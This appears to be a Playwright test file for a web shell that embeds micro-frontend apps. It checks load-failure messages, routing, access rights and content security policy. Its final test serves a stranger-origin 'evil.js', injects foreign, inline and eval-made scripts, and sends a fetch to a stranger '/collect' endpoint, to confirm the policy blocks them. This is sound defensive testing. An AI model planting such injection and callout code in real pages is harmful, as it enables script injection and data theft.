import { expectNoAxeFindings } from '../support/axe.ts'
import { expect, test } from '../support/test.ts'
import { type Embedding, example, schedule, startEmbedding, windowOf } from './embedding.ts'
import { manifestOf } from './example-host.ts'

// They share one server, so they run one after another.
test.describe.configure({ mode: 'default' })

let embedding: Embedding
test.beforeAll(async () => {
  embedding = await startEmbedding()
})
test.afterAll(() => embedding.stop())

interface Fault {
  name: string
  serve: () => void
  text: string
}

const renders = (body: string) => () => embedding.host.serveApplication('scheduler', `window.renderScheduler = ${body}`)
const manifest = (text: string, more?: { status?: number; readable?: boolean }) => () =>
  embedding.host.serve('/scheduler/asset-manifest.json', text, more)

const faults: readonly Fault[] = [
  {
    name: 'the manifest may not be read from here',
    serve: manifest(manifestOf('main.js'), { readable: false }),
    text: 'Failed to load host.',
  },
  { name: 'the script is not there', serve: manifest(manifestOf('gone.js')), text: 'Failed to load host.' },
  {
    name: 'the style sheet is not there',
    serve: manifest(manifestOf('gone.css', 'main.js')),
    text: 'Failed to load host.',
  },
  { name: 'there is no manifest', serve: manifest('', { status: 404 }), text: 'Failed to load manifest.' },
  {
    name: 'the server fails',
    serve: manifest(manifestOf('main.js'), { status: 500 }),
    text: 'Failed to load manifest.',
  },
  { name: 'the manifest is a page', serve: manifest('<!doctype html>'), text: 'Failed to load manifest.' },
  { name: 'the manifest names nothing', serve: manifest('{"files":{}}'), text: 'Failed to load manifest.' },
  { name: 'the manifest names no script', serve: manifest(manifestOf('style.css')), text: 'Failed to load manifest.' },
  {
    name: 'it throws',
    serve: renders('() => { throw new Error("On purpose") }'),
    text: 'Error on rendering scheduler app.',
  },
  {
    name: 'it rejects',
    serve: renders('async () => { throw new Error("On purpose") }'),
    text: 'Error on rendering scheduler app.',
  },
  {
    name: 'it registers nothing',
    serve: () => embedding.host.serveApplication('scheduler', ''),
    text: 'Error on rendering scheduler app.',
  },
  {
    name: 'it throws before it has drawn anything',
    serve: renders('() => { setTimeout(() => { throw new Error("On purpose") }) }'),
    text: 'Error on rendering scheduler app.',
  },
  {
    name: 'it rejects unhandled, having taken its content away',
    serve: renders(`({ container }) => {
      const place = document.getElementById(container)
      place.textContent = 'There'
      setTimeout(async () => { place.textContent = ''; throw new Error('On purpose') })
    }`),
    text: 'Error on rendering scheduler app.',
  },
]

test('each failure has its own sentence, removes the application, and Reload starts at / (SHELL-020, SHELL-021, SHELL-022, SHELL-D25)', async ({
  page,
}) => {
  embedding.host.serveApplication('visits', example('Visits'))
  embedding.host.serveApplication('scheduler', example('Scheduler'))
  await embedding.openAs(page, 'glasgow', schedule)
  await expect(page.getByRole('heading', { name: 'Example Scheduler' })).toBeVisible()
  const menu = page.getByRole('navigation', { name: 'Menu' })
  const heading = page.getByRole('heading', { level: 1 })
  for (const { name, serve, text } of faults) {
    await test.step(name, async () => {
      await menu.getByRole('link', { name: 'Carers' }).click()
      await expect(heading).toHaveText('Carers')
      embedding.host.serveApplication('scheduler', example('Scheduler'), { style: '' })
      serve()
      await menu.getByRole('link', { name: 'Schedule' }).click()
      await expect(heading).toHaveText(text)
      await expect(page.locator('[id^="embedded-"]')).toHaveCount(0)
      await expect.poll(() => windowOf(page)).toMatchObject({ registered: ['undefined', 'undefined'] })
    })
  }
  await expectNoAxeFindings(page)
  await page.evaluate(() => Object.assign(globalThis, { loadedBefore: true }))
  await page.getByRole('button', { name: 'Reload' }).click()
  await expect(page).toHaveURL(embedding.at('/visits'))
  await expect(page.getByRole('heading', { name: 'Example Visits' })).toBeVisible()
  expect(await page.evaluate(() => 'loadedBefore' in globalThis)).toBe(false)

  await test.step('an application that throws but keeps its content is left alone', async () => {
    embedding.host.serveApplication(
      'scheduler',
      `${example('Scheduler')}
      setTimeout(() => { throw new Error('On purpose') }, 50)
      addEventListener('error', () => { window.heard = true })`,
    )
    await menu.getByRole('link', { name: 'Schedule' }).click()
    await expect.poll(() => page.evaluate(() => 'heard' in globalThis)).toBe(true)
    await expect(heading).toHaveText('Example Scheduler')
  })
})

test('an unreachable host is reported on the dashboard, to which / leads if there is one (SHELL-006, SHELL-007, SHELL-020, AUTH-024)', async ({
  page,
}) => {
  await embedding.openAs(page, 'leeds', '/')
  await expect(page).toHaveURL(embedding.at('/dashboard'))
  await expect(page.getByRole('heading', { name: 'Failed to load host.' })).toBeVisible()
  await page.goto(embedding.at('/login'))
  await expect(page).toHaveURL(embedding.at('/dashboard'))
  await page.getByRole('button', { name: 'Reload' }).click()
  await expect(page.getByRole('heading', { name: 'Failed to load host.' })).toBeVisible()
  await expect(page).toHaveURL(embedding.at('/dashboard'))
})

test('without a dashboard / and /dashboard lead to the visits, an application if its address is set (SHELL-006, SHELL-008, SHELL-D07, SHELL-D62, AUTH-024)', async ({
  page,
}) => {
  embedding.host.serveApplication('visits', example('Visits'))
  await embedding.openAs(page, 'glasgow', '/')
  const visits = page.getByRole('heading', { name: 'Example Visits' })
  await expect(visits).toBeVisible()
  for (const path of ['/', '/dashboard', '/login']) {
    await page.goto(embedding.at(path))
    await expect(visits).toBeVisible()
    await expect(page).toHaveURL(embedding.at('/visits'))
  }
})

test('the schedule needs the feature of the branch and the right (SHELL-009, SHELL-040, SHELL-D07)', async ({
  page,
}) => {
  embedding.host.serveApplication('scheduler', example('Scheduler'))
  const link = page.getByRole('navigation', { name: 'Menu' }).getByRole('link', { name: 'Schedule' })
  const opens = async (title: string) => {
    for (const path of [schedule, '/scheduler-runs/2026/48']) {
      await page.goto(embedding.at(path))
      await expect(page.getByRole('heading', { name: title }), path).toBeVisible()
      await expect(page.locator('[id^="embedded-"]')).toHaveCount(title === 'Example Scheduler' ? 1 : 0)
    }
  }
  await embedding.openAs(page, 'cardiff', schedule)
  await opens('Page not found')
  await expect(link).toHaveCount(0)
  await page.getByRole('button', { name: 'Log out' }).click()
  await embedding.openAs(page, 'visitor', schedule)
  await opens('Access denied')
  await expect(link).toHaveCount(0)
  await page.getByRole('button', { name: 'Log out' }).click()
  await embedding.openAs(page, 'glasgow', schedule)
  await opens('Example Scheduler')
  await expect(link).toBeVisible()
})

test('only scripts that the configuration names run: none by the manifest, and none loaded by a script itself (SHELL-D25)', async ({
  page,
  refusals,
}) => {
  embedding.stranger.serve('/evil.js', 'window.evil = true')
  embedding.stranger.serve('/scheduler/main.js', 'window.evil = true')
  embedding.host.serve('/scheduler/asset-manifest.json', manifestOf('main.js', `${embedding.stranger.address}/evil.js`))
  embedding.host.serve('/scheduler/main.js', example('Scheduler'))
  await embedding.openAs(page, 'glasgow', schedule)
  await expect(page.getByRole('heading', { name: 'Failed to load manifest.' })).toBeVisible()
  expect(embedding.stranger.asked).toEqual([])

  // The policy also stops what got in: other origins, inline code and code made from text.
  embedding.host.serveApplication(
    'scheduler',
    `${example('Scheduler')}
    const script = document.createElement('script')
    script.src = '${embedding.stranger.address}/evil.js'
    const inline = document.createElement('script')
    inline.textContent = 'window.evil = true'
    document.head.append(script, inline)
    try { new Function('window.evil = true')() } catch {}
    fetch('${embedding.stranger.address}/collect').catch(() => undefined)
    const style = document.createElement('style')
    style.textContent = 'h1 { letter-spacing: 9px }'
    document.head.append(style)`,
  )
  await page.reload()
  await expect(page.getByRole('heading', { name: 'Example Scheduler' })).toBeVisible()
  await expect.poll(() => refusals.length).toBeGreaterThanOrEqual(5)
  await expect(page.getByRole('heading', { name: 'Example Scheduler' })).not.toHaveCSS('letter-spacing', '9px')
  expect(await page.evaluate(() => 'evil' in globalThis)).toBe(false)
  expect(embedding.stranger.asked).toEqual([])
  refusals.length = 0
})
